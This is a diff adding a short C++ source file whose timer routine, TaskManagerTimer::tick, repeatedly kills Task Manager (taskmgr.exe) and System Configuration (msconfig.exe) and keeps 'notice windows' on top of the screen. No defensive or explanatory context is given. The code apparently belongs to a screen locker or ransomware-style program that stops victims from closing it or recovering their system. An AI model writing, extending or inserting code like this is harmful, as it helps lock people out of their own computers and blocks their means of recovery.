@@ -1,0 +1,15 @@
+#include "enforce/task_manager_timer.h"
+
+#include "platform/failures.h"
+
+namespace ombrix::enforce {
+
+void TaskManagerTimer::tick() noexcept {
+    const Entered entered(*this);
+    if (!entered.first()) return;
+    platform::guarded([&] { KillProcess("taskmgr.exe"); });
+    platform::guarded([&] { KillProcess("msconfig.exe"); });
+    platform::guarded([&] { m_.host.keepNoticeWindowsOnTop(); });
+}
+
+}  // namespace ombrix::enforce
